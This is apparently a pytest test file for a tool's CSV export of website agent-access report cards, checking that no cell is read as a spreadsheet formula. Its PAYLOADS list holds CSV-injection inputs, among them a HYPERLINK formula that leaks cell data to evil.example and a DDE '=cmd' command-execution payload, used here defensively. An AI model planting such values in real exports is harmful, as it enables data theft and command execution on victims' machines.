"""CSV is read back as it was written, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from aui_tui.checks.scoring import grade_card
from aui_tui.model.card import Evidence, ReportCard
from aui_tui.model.observations import Observations
from aui_tui.report.data import FORMULA, card_record, cell, guard
from aui_tui.report.export import write_cards, write_listing
from tests.cards import DEAD, INDEX, RICH_OPEN, SAMPLES, WALLED, cards, listing_of
from tests.scan import situations

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '"=1+1',
    "a,=1+1",
    "a;=1+1",
    'a"\n=1+1',
    "=cmd|' /C calc'!A1",
)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def rows(*written: ReportCard, **options: Any) -> list[dict[str, str]]:
    return table("".join(write_cards("csv", written, **options)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_read_back_as_text(payload: str) -> None:
    card = replace(RICH_OPEN, human_title=payload, edge=payload, name=payload, evidence=(Evidence("good", payload),))
    (row,) = rows(card, fields="human_title,edge,name,evidence.text,host")
    assert row["host"] == "shop.example"
    for field in ("human_title", "edge", "name", "evidence.text"):
        assert row[field] in (payload, "'" + payload)
        assert not row[field].startswith(FORMULA)
        assert not row[field].lstrip().startswith(FORMULA)


@given(st.text())
def test_no_guarded_text_is_a_formula_and_nothing_is_lost(text: str) -> None:
    assert guard(text).removeprefix("'") == text or guard(text) == text
    assert not guard(text).startswith(FORMULA)


@pytest.mark.ci
@given(st.lists(cards(), max_size=3))
def test_every_line_has_every_column(written: list[ReportCard]) -> None:
    found = rows(*written)
    assert [row["score"] for row in found] == ["" if card.unreachable else str(card.score) for card in written]
    assert all(None not in row and None not in row.values() for row in found)


def test_all_cells_are_quoted_and_lines_end_as_rfc_4180_says() -> None:
    text = "".join(write_cards("csv", SAMPLES, fields="host,score"))
    assert text == '"host","score"\r\n"shop.example","87"\r\n"tickets.example","42"\r\n'


def test_values_of_every_kind() -> None:
    first, second = rows(*SAMPLES)
    assert (first["found"], first["wildcard_block"], first["pillars.task"]) == ("true", "false", "")
    assert (first["files"], second["files"]) == ("llms.txt ai-plugin.json", "")
    assert (first["matrix.claude"], first["pillars.access"], first["pillars.works"]) == ("allowed", "40", "")
    assert first["agent_access.Claude-User.status"] == "200"
    assert first["evidence"].splitlines()[-1] == "good: shop.example/llms.txt tells agents where to start."
    assert second["recommendations"].splitlines()[0] == "12 Welcome wba: Verify agents instead of blocking them"
    assert first["human_title"] == "'=Shop | Home"
    assert (second["detail.door"], second["provisional"], second["task_runs"]) == ("0", "true", "[]")


def test_numbers_of_our_own_are_not_guarded() -> None:
    assert [cell(-2), cell(1.5), cell(None), cell(True), cell("-2")] == ["-2", "1.5", "", "true", "'-2"]


def test_a_listing_says_which_list_a_row_stands_in() -> None:
    found = table("".join(write_listing("csv", listing_of(INDEX))))
    assert [(row["host"], row["list"]) for row in found] == [
        (RICH_OPEN.host, "ranked"),
        (WALLED.host, "ranked"),
        (DEAD.host, "unreachable"),
    ]
    assert list(found[0])[:4] == ["host", "name", "category", "score"]


def test_an_unreachable_host_has_no_score_grade_stance_or_verdict_in_any_table() -> None:
    listed = table("".join(write_listing("csv", listing_of(INDEX))))[-1]
    (carded,) = rows(DEAD)
    lines = [json.loads("".join(write_cards("ndjson", [DEAD])))]
    lines.append(json.loads("".join(write_listing("ndjson", listing_of(INDEX))).splitlines()[-1]))
    lines.append(json.loads("".join(write_cards("json", [DEAD], fields="score,grade,stance,matrix,pillars"))))
    for found in (listed, carded):
        assert found["host"] == DEAD.host
        empty = {name for name in found if name.split(".")[0] in ("score", "grade", "stance", "matrix", "pillars")}
        assert len(empty) > 10
        assert {found[name] for name in empty} == {""}
    for line in lines:
        assert (line["score"], line["grade"], line["stance"]) == (None, None, None)
        assert {*line["matrix"].values(), *line["pillars"].values()} == {None}
    assert card_record(DEAD)["score"] is card_record(DEAD)["stance"] is None


OF_ROBOTS = "robots_ua_rules wildcard_block agents_disallowed crawlers_blocked ua_policy.Devin crawler_policy.GPTBot"
OF_PAGE = "jsonld semantic.main noscript_shell"


@pytest.mark.parametrize(
    ("make", "empty"),
    [
        (situations.plain, ""),
        (situations.robots_down, f"{OF_ROBOTS} content_signal"),
        (situations.wall_for_all, OF_PAGE),
        (situations.dead, f"{OF_ROBOTS} content_signal {OF_PAGE}"),
    ],
)
def test_what_was_not_measured_is_empty(make: Callable[[], Observations], empty: str) -> None:
    card = grade_card(make())
    names = f"{OF_ROBOTS} content_signal {OF_PAGE}".split()
    (found,) = rows(card, fields=",".join(names))
    assert {name for name in names if found[name] == ""} == set(empty.split())
    assert (card_record(card)["content_signal"] is None) == ("content_signal" in empty)


def test_two_records_of_unlike_methods_share_the_columns() -> None:
    first, second = rows(RICH_OPEN, WALLED, fields="pillars")
    assert list(first) == [
        f"pillars.{p}" for p in ["access", "consent", "surface", "protocols", "task", "works", "welcome", "built"]
    ]
    assert (first["pillars.built"], second["pillars.built"]) == ("", "12")
